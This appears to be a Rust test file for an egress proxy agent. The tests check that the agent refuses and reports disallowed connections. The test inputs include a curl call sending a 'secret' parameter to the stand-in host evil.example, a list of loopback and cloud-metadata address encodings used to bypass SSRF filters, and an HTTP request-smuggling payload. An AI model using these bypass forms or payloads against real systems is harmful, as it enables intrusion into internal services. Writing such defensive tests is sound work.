//! What clients that know the agent as their proxy get to see.

use sidewarden_agent::dial::Resolver;
use sidewarden_proto::event::{Body, Direction, RefusalReason, Severity};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::scene::{Agent, Dns, Server, curl, free_port, read_all, tls_server};

/// An agent whose workload may go to loopback, and a server there.
async fn scene() -> (Agent, Server) {
    let server = Server::start("127.0.0.1:0").await;
    let rules = format!(
        "allow = ['127.0.0.0/8:{0}', '[::1]:{0}', 'api.example.com:{0} in 127.0.0.0/8']",
        server.address.port()
    );
    let dns = Dns::of(&["127.0.0.1"]).await;
    (Agent::explicit(&rules, dns.resolver()).await, server)
}

#[tokio::test]
async fn curl_gets_through_in_every_way_and_each_place_is_told_once() {
    let (agent, server) = scene().await;
    let (proxy, socks) = (agent.proxy(), agent.egress[0].to_string());
    let by_name = format!("http://api.example.com:{}/x?y=z", server.address.port());
    let by_address = format!("http://{}/x?y=z", server.address);
    for args in [
        &["--proxy", &proxy][..],
        &["--proxy", &proxy, "--proxytunnel"],
        &["--socks5-hostname", &socks],
        &["--proxy", &proxy, "--http1.0"],
        &["--proxy", &proxy, "--data-binary", "@/usr/bin/env"],
        &["--proxy", &proxy, "--data-binary", "@/usr/bin/env", "-H", "Transfer-Encoding: chunked"],
        &["--proxy", &proxy, "--data-binary", "@/usr/bin/env", "-H", "Expect: 100-continue"],
    ] {
        for url in [&by_name, &by_address] {
            let Some(got) = curl(&[args, &[url]].concat()).await else { return };
            assert!(got.code == 0 && got.out.ends_with(" bytes came"), "{args:?} {url}: {got:?}");
        }
    }
    let got = curl(&["--socks5", &socks, &by_address]).await.unwrap();
    assert_eq!((got.code, got.out.as_str()), (0, "0 bytes came"), "{got:?}");
    let requests = server.requests();
    assert_eq!(requests.len(), 15);
    for head in &requests {
        let line = head.lines().next().unwrap();
        assert!(line.contains(" /x?y=z HTTP/1."), "{head}");
        assert!(!head.to_ascii_lowercase().contains("proxy"), "{head}");
    }
    let events = agent.stop().await;
    let seen = events.iter().filter_map(|event| match event.body().unwrap().unwrap() {
        Body::PeerFirstSeen(seen) => Some((seen.direction, seen.peer, seen.address)),
        _ => None,
    });
    let at = server.address.to_string();
    let named = format!("api.example.com:{}", server.address.port());
    assert_eq!(seen.collect::<Vec<_>>(), [(Direction::Egress, named, at.clone()), (Direction::Egress, at.clone(), at)]);
    let opened: u64 = events.iter().map(opened).sum();
    assert_eq!(opened, 15, "every connection is counted once: {events:#?}");
}

fn opened(event: &sidewarden_proto::event::Event) -> u64 {
    if let Ok(Some(Body::ConnectionsSummary(sums))) = event.body() { sums.opened } else { 0 }
}

#[tokio::test]
async fn https_goes_through_a_tunnel_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let Some((address, _server)) = tls_server(&format!("127.0.0.1:{}", free_port()), dir.path()).await else { return };
    let dns = Dns::of(&["127.0.0.1"]).await;
    let rules = format!("allow = ['api.example.com:{} in 127.0.0.0/8']", address.port());
    let agent = Agent::explicit(&rules, dns.resolver()).await;
    let (proxy, socks) = (agent.proxy(), agent.egress[0].to_string());
    let (url, ca) = (format!("https://api.example.com:{}/", address.port()), dir.path().join("cert.pem"));
    for way in [["--proxy", &proxy], ["--socks5-hostname", &socks]] {
        let Some(got) = curl(&[&way[..], &["--cacert", ca.to_str().unwrap(), &url]].concat()).await else { return };
        assert!(got.code == 0 && got.out.contains("TLSv1.3"), "{got:?}");
    }
}

#[tokio::test]
async fn a_refusal_is_told_in_the_clients_own_words_and_is_an_event() {
    let agent = Agent::explicit("allow = ['api.example.com:443']", Resolver::from_system()).await;
    let (proxy, socks) = (agent.proxy(), agent.egress[0].to_string());
    let Some(got) = curl(&["-i", "--proxy", &proxy, "http://evil.example/x?secret=1"]).await else { return };
    assert!(got.out.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{got:?}");
    let sentence = "No egress to evil.example:80: it is not on the list. To allow it, add \"evil.example:80\" to `allow` under [egress] in the settings of this service's agent.\n";
    assert!(got.out.ends_with(&format!("\r\n\r\n{sentence}")), "{got:?}");
    let got = curl(&["--proxy", &proxy, "https://api.example.com:444/"]).await.unwrap();
    assert!(got.code == 56 && got.err.contains("403"), "{got:?}");
    let got = curl(&["--socks5-hostname", &socks, "https://evil.example/"]).await.unwrap();
    assert!(got.code == 97 && got.err.contains("(2)"), "{got:?}");
    let got = curl(&["--head", "--proxy", &proxy, "http://evil.example/"]).await.unwrap();
    assert!(got.code == 0 && got.out.starts_with("HTTP/1.1 403 ") && got.out.ends_with("\r\n\r\n"), "{got:?}");

    let refused = agent.refusal(RefusalReason::EgressNotListed).await;
    assert_eq!((refused.direction, refused.listener.as_str()), (Direction::Egress, "evil.example:80"));
    assert!(refused.source.starts_with("127.0.0.1:") && !refused.detail.contains("secret"), "{refused:?}");
    assert!(
        agent.counted(r#"sidewarden_agent_connections_refused_total{direction="egress",reason="egress_not_listed"} 4"#)
    );
    let events = agent.stop().await;
    let told = events.iter().map(|event| (event.summary.as_str(), event.severity)).collect::<Vec<_>>();
    assert_eq!(
        told,
        [
            ("no egress to evil.example:80: egress not listed: it is not on the list", Severity::Warning),
            (
                "no egress to api.example.com:444: egress not listed: it is on the list for other ports only",
                Severity::Warning
            ),
            ("no egress to evil.example:443: egress not listed: it is not on the list", Severity::Warning),
            ("no egress to evil.example:80: egress not listed: it is not on the list", Severity::Warning),
        ]
    );
}

#[tokio::test]
async fn addresses_inside_are_refused_in_whatever_form_they_are_asked_for() {
    let server = Server::start("127.0.0.1:0").await;
    let port = server.address.port();
    let rules = format!("allow = ['0.0.0.0/0:{port}', '[::/0]:{port}', 'localhost:{port}', '*.example.com:{port}']");
    let agent = Agent::explicit(&rules, Resolver::from_system()).await;
    for (host, status) in [
        ("127.0.0.1", 403),
        ("127.0.0.1.", 403),
        ("127.8.9.10", 403),
        ("localhost", 403),
        ("LOCALHOST.", 403),
        ("0.0.0.0", 403),
        ("[::1]", 403),
        ("[::]", 403),
        ("[::ffff:127.0.0.1]", 403),
        ("[::ffff:7f00:1]", 403),
        ("[64:ff9b::127.0.0.1]", 403),
        ("[::127.0.0.1]", 403),
        ("[2002:7f00:1::]", 403),
        ("169.254.169.254", 403),
        ("[fd00:ec2::254]", 403),
        ("[fe80::1]", 403),
        ("[fe80::1%lo]", 400),
        ("[::1%25lo]", 400),
        ("2130706433", 400),
        ("0x7f000001", 400),
        ("0x7f.1", 400),
        ("0x7f.0.0.0x1", 400),
        ("017700000001", 400),
        ("0177.0.0.1", 400),
        ("127.1", 400),
        ("127.0.1", 400),
        ("127.0.0.1%00.example.com", 400),
        ("127.0.0.1@x.example.com", 400),
        ("x.example.com@127.0.0.1", 400),
        ("１２７.0.0.1", 400),
    ] {
        for request in [
            format!("CONNECT {host}:{port} HTTP/1.1\r\n\r\n"),
            format!("GET http://{host}:{port}/ HTTP/1.1\r\nHost: x.example.com\r\n\r\n"),
        ] {
            let mut client = agent.dial().await;
            client.write_all(request.as_bytes()).await.unwrap();
            let (answer, _) = read_all(&mut client).await;
            let answer = String::from_utf8_lossy(&answer).into_owned();
            assert!(answer.starts_with(&format!("HTTP/1.1 {status} ")), "{request}{answer}");
        }
        let name = host.trim_matches(['[', ']']);
        let mut client = agent.dial().await;
        let asked = [&[5, 1, 0, 5, 1, 0, 3, name.len() as u8][..], name.as_bytes(), &port.to_be_bytes()].concat();
        client.write_all(&asked).await.unwrap();
        let (answer, _) = read_all(&mut client).await;
        let code = if status == 403 { 2 } else { 1 };
        assert_eq!(answer, [5, 0, 5, code, 0, 1, 0, 0, 0, 0, 0, 0], "SOCKS5 {name}");
    }
    for (kind, address) in [(1, &[127, 0, 0, 1][..]), (4, &std::net::Ipv6Addr::LOCALHOST.octets())] {
        let mut client = agent.dial().await;
        client.write_all(&[&[5, 1, 0, 5, 1, 0, kind], address, &port.to_be_bytes()].concat()).await.unwrap();
        assert_eq!(read_all(&mut client).await.0[..4], [5, 0, 5, 2]);
    }
    assert!(server.requests().is_empty(), "{:?}", server.requests());
    let refused = agent.refusal(RefusalReason::EgressPrivateAddress).await;
    assert_eq!(refused.detail, "it is a loopback address, and not on the list");
}

#[tokio::test]
async fn a_second_request_does_not_slip_past_behind_the_first() {
    let (agent, server) = scene().await;
    let first = format!("POST http://{0}/one HTTP/1.1\r\nHost: {0}\r\nContent-Length: 3\r\n\r\nabc", server.address);
    for second in
        ["GET http://evil.example/two HTTP/1.1\r\nHost: evil.example\r\n\r\n", "GET /two HTTP/1.1\r\nHost: x\r\n\r\n"]
    {
        let mut client = agent.dial().await;
        client.write_all(format!("{first}{second}").as_bytes()).await.unwrap();
        client.shutdown().await.unwrap();
        let answer = String::from_utf8(read_all(&mut client).await.0).unwrap();
        assert!(answer.contains("connection: close\r\n") && answer.ends_with("3 bytes came"), "{answer}");
        assert!(!answer.to_ascii_lowercase().contains("keep-alive"), "{answer}");
    }
    let requests = server.requests();
    assert!(requests.len() == 2 && requests.iter().all(|head| head.starts_with("POST /one ")), "{requests:?}");
}

#[tokio::test]
async fn what_is_no_request_is_refused_and_told() {
    let (agent, server) = scene().await;
    let smuggled = format!(
        "POST http://{0}/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
        server.address
    );
    for (sent, answer, detail) in [
        (&b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"[..], &b"HTTP/1.1 400 "[..], "this is a forward proxy"),
        (smuggled.as_bytes(), b"HTTP/1.1 400 ", "both a content-length"),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"HTTP/1.1 400 ", "no HTTP request"),
        (b"\x16\x03\x01\x02\x00\x01", b"", "a TLS handshake"),
        (b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00", b"", "SOCKS4"),
        (b"\x05\x01\x02", b"\x05\xff", "authentication only"),
        (b"\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x50", b"\x05\x00\x05\x07", "BIND"),
        (b"\x00\x01\x02", b"", "bytes 00 01 02"),
        (b"", b"", "without a byte"),
        (b"CONNECT a.exam", b"", "broke off"),
    ] {
        let alone = Agent::explicit("", Resolver::from_system()).await;
        let mut client = alone.dial().await;
        client.write_all(sent).await.unwrap();
        client.shutdown().await.unwrap();
        let (got, _) = read_all(&mut client).await;
        assert!(got.starts_with(answer), "{}", String::from_utf8_lossy(&got));
        let refused = alone.refusal(RefusalReason::BadRequest).await;
        assert!(refused.detail.contains(detail), "{refused:?}");
        assert_eq!(refused.listener, alone.egress[0].to_string());
    }
    drop(agent);
}

#[tokio::test]
async fn who_does_not_finish_asking_is_told_so() {
    for (sent, answer) in
        [(&b"GET http://a.example/ HT"[..], &b"HTTP/1.1 408 "[..]), (b"\x05\x01\x00", b"\x05\x00\x05\x01"), (b"", b"")]
    {
        let agent =
            Agent::start("listen = '127.0.0.1:0'", "timeouts.handshake = '50ms'", Resolver::from_system()).await;
        let mut client = agent.dial().await;
        client.write_all(sent).await.unwrap();
        let (got, _) = read_all(&mut client).await;
        assert!(got.starts_with(answer) && got.is_empty() == answer.is_empty(), "{got:?}");
        assert_eq!(agent.refusal(RefusalReason::RequestTimeout).await.detail, "not finished within 50ms");
    }
}

#[tokio::test]
async fn who_does_not_answer_is_told_by_the_right_code() {
    let closed = free_port();
    let agent = Agent::explicit(&format!("allow = ['127.0.0.1:{closed}']"), Resolver::from_system()).await;
    let mut client = agent.dial().await;
    client.write_all(&[&[5, 1, 0, 5, 1, 0, 1, 127, 0, 0, 1][..], &closed.to_be_bytes()].concat()).await.unwrap();
    assert_eq!(read_all(&mut client).await.0[..4], [5, 0, 5, 5]);
    let mut client = agent.dial().await;
    client.write_all(format!("CONNECT 127.0.0.1:{closed} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
    let answer = String::from_utf8(read_all(&mut client).await.0).unwrap();
    assert!(answer.starts_with("HTTP/1.1 502 ") && answer.contains("Connection refused"), "{answer}");
    let refused = agent.refusal(RefusalReason::Unreachable).await;
    assert_eq!(refused.listener, format!("127.0.0.1:{closed}"));
}

#[tokio::test]
async fn a_tunnel_carries_bytes_both_ways_and_each_half_ends_by_itself() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let to = listener.local_addr().unwrap();
    let serving = tokio::spawn(async move {
        let (mut tcp, _) = listener.accept().await.unwrap();
        let mut all = Vec::new();
        tcp.read_to_end(&mut all).await.unwrap();
        tcp.write_all(&all).await.unwrap();
    });
    let agent = Agent::explicit(&format!("allow = ['{to}']"), Resolver::from_system()).await;
    let mut client = agent.dial().await;
    // The first bytes of the tunnel come in one breath with the question.
    client.write_all(format!("CONNECT {to} HTTP/1.1\r\n\r\nfirst").as_bytes()).await.unwrap();
    let body = vec![7; 3 << 20];
    client.write_all(&body).await.unwrap();
    client.shutdown().await.unwrap();
    let (got, whole) = read_all(&mut client).await;
    let expected = [&b"HTTP/1.1 200 Connection established\r\n\r\nfirst"[..], &body].concat();
    assert!(whole && got == expected, "{} bytes", got.len());
    serving.await.unwrap();
}

#[tokio::test]
async fn live_tunnels_are_reset_when_the_agent_ends() {
    let (agent, server) = scene().await;
    let mut client = agent.dial().await;
    client.write_all(format!("CONNECT {} HTTP/1.1\r\n\r\n", server.address).as_bytes()).await.unwrap();
    let mut yes = [0; 39];
    client.read_exact(&mut yes).await.unwrap();
    assert!(agent.counted(r#"sidewarden_agent_connections_live{direction="egress"} 1"#));
    let events = agent.stop().await;
    assert!(!read_all(&mut client).await.1, "a reset, not an end");
    let ended = events.iter().any(|event| event.summary.contains("ended: agent stopping"));
    assert!(ended, "{events:#?}");
}

#[tokio::test]
async fn over_the_limit_of_connections_the_next_is_refused_and_told() {
    let server = Server::start("127.0.0.1:0").await;
    let rules = format!("listen = '127.0.0.1:0'\nallow = ['{}']", server.address);
    let agent = Agent::start(&rules, "limits.max_connections = 1", Resolver::from_system()).await;
    let mut first = agent.dial().await;
    first.write_all(format!("CONNECT {} HTTP/1.1\r\n\r\n", server.address).as_bytes()).await.unwrap();
    first.read_exact(&mut [0; 39]).await.unwrap();
    let _second = TcpStream::connect(agent.egress[0]).await.unwrap();
    assert_eq!(agent.refusal(RefusalReason::LimitReached).await.direction, Direction::Egress);
}
